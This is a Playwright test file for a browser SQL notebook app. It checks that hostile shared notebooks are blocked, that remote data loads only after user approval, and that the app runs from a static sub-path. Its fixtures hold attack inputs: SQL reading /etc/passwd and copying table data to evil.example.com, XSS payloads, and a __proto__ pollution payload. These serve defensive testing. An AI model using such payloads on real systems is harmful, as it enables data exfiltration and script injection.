/**
 * Hostile notebooks can do no harm, nothing is fetched from another origin until the user approves
 * it, and the app works from a sub-path of a static host.
 */
import { describe, expect, inject, test } from 'vitest';
import { mkdtempSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { openApp } from './browser';
import { killProfileBrowsers, openQuiet, persistent, ready, sharedLink, typeSql, typeSqlAndRun, useTempDirs } from './notebook-helpers';
import { toDocument, type NotebookDoc } from '../../src/lib/notebook/document';
import { encodeShareFragment } from '../../src/lib/notebook/share-link';
import type { Cell } from '../../src/lib/notebook/cells';

useTempDirs(); // closes this file's browser after its tests

describe('hostile notebooks', () => {
  const hostileCells = [
    { id: 'h1', kind: 'sql', name: 'read_passwd', sql: "SELECT * FROM read_csv('/etc/passwd')" },
    { id: 'h2', kind: 'sql', name: 'fetch_out', sql: "SELECT * FROM read_csv('https://evil.example.com/x.csv')" },
    { id: 'h3', kind: 'sql', name: 'copy_out', sql: "COPY (SELECT * FROM orders) TO 'https://evil.example.com/steal.csv'" },
    { id: 'h4', kind: 'sql', name: 'load_ext', sql: 'INSTALL httpfs; LOAD httpfs' },
    { id: 'h5', kind: 'sql', name: 'unlock', sql: 'SET enable_external_access = true' },
    { id: 'h6', kind: 'sql', name: 'attach', sql: "ATTACH 'https://evil.example.com/db.duckdb' AS evil" },
    { id: 'h7', kind: 'sql', name: '<img src=x onerror="window.__pwned=1">', sql: `SELECT '<script>window.__pwned=2</script>' AS "<img src=y onerror=window.__pwned=3>", 'javascript:window.__pwned=4' AS link` },
    { id: 'h8', kind: 'notes', name: 'notes', text: '<script>window.__pwned=5</script>\n\n[click](javascript:window.__pwned=6)\n\n<img src=z onerror="window.__pwned=7">' },
    { id: 'h9', kind: 'chart', name: 'chart"<b>', spec: { source: '<svg onload=window.__pwned=8>', mark: 'bar', x: '<b>x</b>', y: null, color: null, aggregate: 'count' } },
  ] as Cell[];

  test('after approval they fail or show text, with no request outside the origin, no script and no polluted prototype', async () => {
    const doc: NotebookDoc = toDocument('Hostile <script>window.__pwned=9</script>', hostileCells, { autoRun: true }, [{ name: '__proto__', columns: [] }]);
    const fragment = await encodeShareFragment(doc);
    const app = await openApp({ path: fragment });
    try {
      await app.page.getByTestId('review-panel').waitFor();
      // The review shows the statements as text.
      expect((await app.page.getByTestId('review-sql').allTextContents()).join('\n')).toContain('/etc/passwd');
      await app.page.getByTestId('review-run').click();
      for (const name of ['read_passwd', 'fetch_out', 'copy_out', 'load_ext', 'unlock', 'attach']) {
        const cell = app.page.locator(`[data-testid="cell"][data-name="${name}"]`);
        await cell.and(app.page.locator('[data-status="error"]')).waitFor();
      }
      const injected = app.page.locator('[data-testid="cell"][data-name^="<img"]');
      await injected.and(app.page.locator('[data-status="done"]')).waitFor();
      expect(await injected.locator('.td').first().filter({ hasNotText: 'Loading' }).textContent()).toBe('<script>window.__pwned=2</script>');
      await app.page.waitForTimeout(0);
      const result = await app.page.evaluate(() => ({
        pwned: (window as unknown as { __pwned?: number }).__pwned,
        protoKeys: Object.getOwnPropertyNames(Object.prototype).sort().join(','),
        polluted: ({} as Record<string, unknown>).polluted,
      }));
      expect(result.pwned).toBeUndefined();
      expect(result.polluted).toBeUndefined();
      expect(result.protoKeys).toBe(Object.getOwnPropertyNames(Object.prototype).sort().join(','));
      expect(app.foreignRequests).toEqual([]);
      expect(app.pageErrors).toEqual([]);
    } finally {
      await app.close();
    }
  });

  test('a notebook link with prototype-pollution keys is refused with a message', async () => {
    const raw = `{"format":"segnote-notebook","version":1,"cells":[],"__proto__":{"polluted":true}}`;
    const bytes = new Uint8Array(await new Response(new Blob([raw]).stream().pipeThrough(new CompressionStream('deflate-raw'))).arrayBuffer());
    const fragment = `#nb=${Buffer.from(bytes).toString('base64url')}`;
    // Not waiting for the starter notebook to finish running: the test asserts only that it opened.
    const app = await openApp({ path: fragment, waitReady: false });
    try {
      await app.page.getByTestId('library-message').waitFor();
      expect(await app.page.getByTestId('library-message').textContent()).toMatch(/forbidden key "__proto__"/);
      expect(await app.page.evaluate(() => ({} as Record<string, unknown>).polluted)).toBeUndefined();
      await app.page.getByTestId('cell').first().waitFor();
      expect(await app.page.getByTestId('cell').count()).toBeGreaterThan(0);
    } finally {
      await app.close();
    }
  });
});

describe('data from a URL', () => {
  test('nothing is fetched from another origin until the user approves it; then the table loads and a shared notebook can name it', async () => {
    // A second origin: another port on this machine, serving one CSV with CORS allowed.
    const hits: string[] = [];
    const server = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/csv', 'access-control-allow-origin': '*' });
      res.end('region,target\nNorth,100\nSouth,250\n');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const dataUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/targets.csv`;
    const app = await openQuiet('empty');
    try {
      const answers: (string | boolean)[] = [dataUrl, false, dataUrl, true];
      app.page.removeAllListeners('dialog');
      app.page.on('dialog', (d) => {
        const a = answers.shift();
        if (a === false) void d.dismiss();
        else void d.accept(typeof a === 'string' ? a : undefined);
      });
      // First try: the user declines the origin: no request is made.
      await app.page.getByTestId('add-url').click();
      await expect.poll(() => answers.length).toBe(2);
      expect(hits).toEqual([]);
      expect(app.foreignRequests).toEqual([]);
      // Second try: approved, downloaded, loaded.
      await app.page.getByTestId('add-url').click();
      await app.page.locator('[data-table="targets"]').waitFor();
      expect(hits).toEqual(['/targets.csv']);
      expect(app.foreignRequests.every((u) => u.startsWith(new URL(dataUrl).origin))).toBe(true);

      // A shared notebook that reads it names the URL; the receiver loads it only on request.
      await typeSqlAndRun(app.page, 'SELECT sum(target) AS total FROM targets');
      await app.page.getByTestId('notebooks-button').click();
      await app.page.getByTestId('nb-share').click();
      const link = await sharedLink(app.page);
      const other = await openApp({ path: link.slice(link.indexOf('#')) });
      try {
        await other.page.getByTestId('review-panel').waitFor();
        const row = other.page.locator('[data-testid="review-table"][data-status="missing"]');
        expect(await row.textContent()).toContain('targets');
        expect(other.foreignRequests).toEqual([]);
        await row.getByTestId('review-load-url').click();
        await other.page.locator('[data-testid="review-table"][data-status="matched"]', { hasText: 'targets' }).waitFor();
        expect(hits).toEqual(['/targets.csv', '/targets.csv']);
      } finally {
        await other.close();
      }
    } finally {
      await app.close();
      server.close();
    }
  });
});

describe('static hosting', () => {
  test('the built app works from a sub-path of a plain static host', async () => {
    const base = new URL(inject('baseUrl'));
    const app = await openApp({ waitReady: false, path: 'about:blank' });
    try {
      // The host serves the built app under /team/segnote/ and nothing else: a request for
      // /assets/... (an absolute path) would fail, as it would on a project page.
      const outside: string[] = [];
      await app.context.route(`${base.origin}/**`, async (route) => {
        const url = new URL(route.request().url());
        if (!url.pathname.startsWith('/team/segnote/')) {
          outside.push(url.pathname);
          return route.fulfill({ status: 404, body: 'not here' });
        }
        url.pathname = url.pathname.replace('/team/segnote/', '/');
        await route.fulfill({ response: await route.fetch({ url: url.toString() }) });
      });
      await app.page.goto(`${base.origin}/team/segnote/`);
      await ready(app.page);
      expect(await app.page.locator('[data-name="monthly_revenue"]').getAttribute('data-status')).toBe('done');
      expect(outside).toEqual([]);
      expect(app.foreignRequests).toEqual([]);
    } finally {
      // The service worker may still be caching files for offline use through the route.
      await app.context.unrouteAll({ behavior: 'ignoreErrors' });
      await app.close();
    }
  });
});
